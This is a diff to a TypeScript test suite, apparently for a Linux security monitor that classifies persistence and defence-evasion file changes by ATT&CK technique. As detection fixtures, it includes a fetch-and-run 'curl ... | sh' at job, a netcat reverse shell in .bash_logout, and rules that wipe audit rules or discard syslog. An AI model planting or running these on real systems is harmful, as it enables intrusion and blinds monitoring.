@@ -49,6 +49,16 @@ describe.skipIf(process.platform !== 'linux')('a change of power', () => {
     ['/etc/systemd/system/x.service', 'ExecStart=/usr/bin/x', 'security.persistence.new', 'low', 'T1543.002'],
     ['/etc/systemd/system/y.service', 'ExecStart=/tmp/x', 'security.persistence.dangerous', 'high', 'T1543.002'],
     ['/etc/cron.d/x', '* * * * * root /usr/bin/true', 'security.persistence.new', 'low', 'T1053.003'],
+    ['/etc/systemd/system/ssh.service.d/x.conf', 'ExecStartPre=/tmp/x', 'security.persistence.dangerous', 'high', 'T1543.002'],
+    ['/etc/systemd/system/ssh.service.d/y.conf', 'Nice=3', 'security.persistence.new', 'low', 'T1543.002'],
+    ['/var/spool/cron/atjobs/a00001', 'OLDPWD=/home/eve/x; export OLDPWD\n/usr/bin/true', 'security.persistence.new', 'low', 'T1053.002'],
+    ['/var/spool/cron/atjobs/a00002', 'curl http://x/y | sh', 'security.persistence.dangerous', 'high', 'T1053.002'],
+    ['/etc/update-motd.d/99-x', '#!/bin/sh\n/usr/bin/true', 'security.persistence.new', 'low', 'T1546'],
+    ['/root/.bash_logout', 'export A=1', 'security.persistence.new', 'low', 'T1546.004'],
+    ['/home/eve/.bash_logout', 'nc -e /bin/sh 192.0.2.1 9 | sh', 'security.persistence.dangerous', 'high', 'T1546.004'],
+    ['/etc/ld.so.conf.d/x.conf', '/opt/x', 'security.persistence.new', 'low', 'T1574.006'],
+    ['/etc/audit/rules.d/audit.rules', '-D', 'security.defence.changed', 'low', 'T1562.006'],
+    ['/etc/rsyslog.conf', '*.* ~', 'security.defence.changed', 'low', 'T1562.006'],
     ['/etc/profile.d/x.sh', 'export A=1', 'security.persistence.new', 'low', 'T1546.004'],
   ])('%s', async (path, text, kind, severity, technique) => {
     expect(await said(() => put(path, text))).toMatchObject([{ kind, severity, about: path, facts: { technique, isNew: true } }])
@@ -104,14 +114,29 @@ describe.skipIf(process.platform !== 'linux')('a change of power', () => {
     expect(quiet).toEqual([])
   })
 
-  it('is not looked for behind links and in pipes', async () => {
+  it('is not looked for behind links and in pipes; a link itself is one', async () => {
     put('/secret', 'hunter2')
     const events = await said(() => {
       symlinkSync(join(root, 'secret'), join(root, 'etc/cron.d/link'))
       symlinkSync(join(root, 'etc/cron.d'), join(root, 'etc/cron.d/loop'))
       execFileSync('mkfifo', [join(root, 'etc/cron.d/pipe')])
     })
-    expect(events).toEqual([])
+    expect(events.map(({ about }) => about)).toEqual(['/etc/cron.d/link', '/etc/cron.d/loop'])
+    expect(JSON.stringify(events)).not.toContain('hunter2')
+  })
+
+  it('is a unit that lies in somebody’s own folder and is linked; in a person’s own folder a link is theirs', async () => {
+    mkdirSync(join(root, 'etc/systemd/system'), { recursive: true })
+    mkdirSync(join(root, 'home/eve/.config/systemd/user'), { recursive: true })
+    const events = await said(() => {
+      symlinkSync('/home/eve/x.service', join(root, 'etc/systemd/system/x.service'))
+      symlinkSync('/usr/lib/systemd/system/ssh.service', join(root, 'etc/systemd/system/sshd.service'))
+      symlinkSync('/tmp/x.service', join(root, 'home/eve/.config/systemd/user/x.service'))
+    })
+    expect(events.map(({ kind, about }) => [kind, about])).toEqual([
+      ['security.persistence.new', '/etc/systemd/system/sshd.service'],
+      ['security.persistence.dangerous', '/etc/systemd/system/x.service'],
+    ])
   })
 })
 
